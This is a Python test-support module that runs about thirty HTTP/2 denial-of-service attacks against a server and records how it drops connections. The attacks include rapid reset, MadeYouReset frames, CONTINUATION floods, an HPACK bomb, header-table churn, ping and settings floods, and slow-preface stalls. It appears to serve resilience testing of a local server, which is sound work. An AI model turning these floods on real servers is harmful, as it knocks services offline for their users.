"""What is on record against HTTP/2 servers, in a process of its own. Goes on until its input ends, and comes back as often as it
is thrown out."""
import itertools
import select
import ssl
import struct
import sys

from support import h2
from support.beside import Beside, input_ended, ready, report
from support.h2 import H2, frame, number, settings

BATCH = 50


class H2Attack(Beside):
    """One connection at a time. `ca`: the file of the authority that the address has its certificate from, for TLS. The
    report says how often it was thrown out, and with which codes of GOAWAY."""

    def __init__(self, kind, address, ca=None):
        super().__init__("support.h2_attack", kind, address, *([ca] if ca else []), niceness=19)


# Each kind: a generator of what a connection sends, piece by piece.


def asking(peer, path="/slow", method="GET", fields=(), end=True):
    """The bytes of one more request, and its stream."""
    stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
    return peer.headers(peer.request(*fields, method=method, path=path), stream, end), stream


def rapid_reset(peer):
    while True:
        yield b"".join(head + frame(h2.RST_STREAM, stream, payload=number(h2.CANCEL))
                       for head, stream in (asking(peer) for _ in range(BATCH)))


def provoking(what, end=True):
    """MadeYouReset: a request each, and a frame that makes the server reset it."""
    def provoke(peer):
        while True:
            yield b"".join(head + what(stream) for head, stream in (asking(peer, end=end) for _ in range(BATCH)))
    return provoke


def lying(peer):
    while True:
        yield b"".join(head + frame(h2.DATA, stream, h2.END_STREAM, b"long")
                       for head, stream in (asking(peer, method="POST", fields=[("content-length", "3")], end=False)
                                            for _ in range(BATCH)))


def continuations(size):
    def flood(peer):
        yield frame(h2.HEADERS, 1, h2.END_STREAM, peer.block(peer.request()))
        while True:
            # A field that is never indexed, over and over.
            yield frame(h2.CONTINUATION, 1, payload=(b"\x10\x01a\x01b" * 4000)[:size])
    return flood


def few_continuations(peer):
    """As many as a header block may have, in each of many."""
    while True:
        stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
        yield (frame(h2.HEADERS, stream, h2.END_STREAM, peer.block(peer.request())) +
               b"".join(frame(h2.CONTINUATION, stream, payload=b"\x10\x01a\x01b") for _ in range(6)) +
               frame(h2.CONTINUATION, stream, h2.END_HEADERS))


def large_lists(peer):
    """Header lists of 64 KiB and more, as they are."""
    while True:
        yield asking(peer, fields=[(f"x-{n}", "a" * 16000) for n in range(5)])[0]


def hpack_bomb(peer):
    large = peer.encoder.encode([("x-bomb", "b" * 3900)], huffman=False)
    yield frame(h2.HEADERS, 1, h2.END_STREAM | h2.END_HEADERS, peer.block(peer.request()) + large)
    peer.next_stream = 3
    while True:
        stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
        yield frame(h2.HEADERS, stream, h2.END_STREAM | h2.END_HEADERS, peer.block(peer.request()) + b"\xbe" * 16000)


def table_sizes(peer):
    """Table size updates without end, in each block."""
    while True:
        stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
        yield frame(h2.HEADERS, stream, h2.END_STREAM | h2.END_HEADERS, b"\x20\x3f\xe1\x1f" * 4000 + peer.block(peer.request(path="/slow")))


def table_churn(peer):
    """Each request fills the table with fields that no other has; the table that our answers may use is as large as can be said."""
    yield settings(TABLE_SIZE=0xFFFFFFFF)
    for turn in itertools.count():
        stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
        own = peer.encoder.encode([(f"x-{turn}-{n}", f"{n}" * 1900) for n in range(2)], huffman=False)
        yield frame(h2.HEADERS, stream, h2.END_STREAM | h2.END_HEADERS, peer.block(peer.request()) + own)
        peer.answer(stream)


def too_many(peer):
    while True:
        yield b"".join(asking(peer)[0] for _ in range(BATCH))


def repeating(what):
    def repeat(_):
        while True:
            yield what * BATCH
    return repeat


def data(payload):
    def drip(peer):
        head, stream = asking(peer, path="/", method="POST", end=False)
        yield head
        while True:
            yield frame(h2.DATA, stream, payload=payload) * BATCH
    return drip


def priority_updates(_):
    for turn in itertools.count():
        yield b"".join(frame(h2.PRIORITY_UPDATE, payload=number(stream) + b"u=%d" % (turn % 8)) for stream in range(1, 100, 2))


def dribbling(peer):
    """Windows that open by a byte."""
    stream = 1
    yield settings(WINDOW=0) + asking(peer, path="/large")[0]
    while True:
        yield frame(h2.WINDOW_UPDATE, stream, payload=number(1)) * BATCH


def slowly(*pieces):
    """One after the other, and then nothing more."""
    def say(_):
        for piece in pieces:
            yield piece
            yield from [None] * 5
        while True:
            yield None
    return say


def slow_head(*more):
    def say(peer):
        while not peer.settings:
            peer.next_frame()  # and acknowledges: nothing may come between the parts of a head
        yield from slowly(frame(h2.HEADERS, peer.next_stream, h2.END_STREAM, b"\x82"),
                          *(frame(h2.CONTINUATION, peer.next_stream, payload=each) for each in more))(peer)
    return say


KINDS = {
    "rapid-reset": rapid_reset,
    "window-overflow": provoking(lambda stream: frame(h2.WINDOW_UPDATE, stream, payload=number(0x7FFFFFFF))),
    "window-zero": provoking(lambda stream: frame(h2.WINDOW_UPDATE, stream, payload=number(0))),
    "priority-length": provoking(lambda stream: frame(h2.PRIORITY, stream, payload=b"1234")),
    "priority-self": provoking(lambda stream: frame(h2.PRIORITY, stream, payload=number(stream) + b"\0")),
    "data-after-end": provoking(lambda stream: frame(h2.DATA, stream, payload=b"x")),
    "headers-after-end": provoking(lambda stream: frame(h2.HEADERS, stream, h2.END_HEADERS, b"\x82")),
    "lying-length": lying,
    "continuations": continuations(16000),
    "tiny-continuations": continuations(5),
    "few-continuations": few_continuations,
    "large-lists": large_lists,
    "hpack-bomb": hpack_bomb,
    "table-sizes": table_sizes,
    "table-churn": table_churn,
    "too-many-streams": too_many,
    "settings": repeating(settings(WINDOW=65535)),
    "ping": repeating(frame(h2.PING, payload=b"12345678")),
    "priority": repeating(frame(h2.PRIORITY, 1, payload=number(3) + b"\x10")),
    "priority-update": priority_updates,
    "window-update": repeating(frame(h2.WINDOW_UPDATE, 0, payload=number(1))),
    "window-dribble": dribbling,
    "empty-data": data(b""),
    "tiny-data": data(b"x"),
    "unknown-frames": repeating(frame(77, 0, payload=b"what is this")),
    "no-preface": slowly(),
    "half-preface": slowly(h2.PREFACE[:10]),
    "dripped-preface": slowly(*(bytes((byte,)) for byte in h2.PREFACE)),
    "slow-head": slow_head(),
    "dripped-head": slow_head(*[b"\x10\x01a\x01b"] * 5),
}
UNREAD = {"ping", "settings"}  # what comes back is not read
UNGREETED = {"no-preface", "half-preface", "dripped-preface"}  # nor is anything said but the pieces


def wait_a_little(peer):
    """Until something comes, or the input ends, or a moment has passed."""
    select.select([peer.socket, sys.stdin], [], [], 0.05)


def read_all(peer):
    while peer.pending or select.select([peer.socket], [], [], 0)[0]:
        if peer.next_frame() is None:
            raise ConnectionError
        if not select.select([peer.socket], [], [], 0)[0] and len(peer.pending) < 9:
            break


def keep_all(peer):
    """What comes waits for goodbye(): nothing is said to it."""
    if select.select([peer.socket], [], [], 0)[0]:
        data = peer.socket.recv(65536)
        if not data:
            raise ConnectionError
        peer.pending += data


def visit(kind, address, tls, thrown_out, codes):
    ungreeted = kind in UNGREETED
    peer = H2(address, tls=tls, server_name=tls and "app.test", within=3.0, source=("127.0.0.2", 0), greets=not ungreeted,
              first=b"" if ungreeted else settings())
    hear = keep_all if ungreeted else (lambda _: None) if kind in UNREAD else read_all
    try:
        for piece in KINDS[kind](peer):
            if input_ended():
                return
            if piece is None:
                wait_a_little(peer)
            else:
                peer.send(piece)
            hear(peer)
    except (OSError, struct.error):
        thrown_out.append(1)
        try:
            peer.goodbye()
        except (OSError, struct.error):
            pass
        codes.append(peer.going)
    finally:
        peer.close()


def main():
    kind, address, *ca = sys.argv[1:]
    tls = ssl.create_default_context(cafile=ca[0]) if ca else None
    thrown_out, codes = [], []
    ready()
    while not input_ended():
        try:
            visit(kind, address, tls, thrown_out, codes)
        except OSError:
            pass  # could not connect: again
    report(thrown_out=len(thrown_out), codes=sorted({code or 0 for code in codes}))


if __name__ == "__main__":
    main()
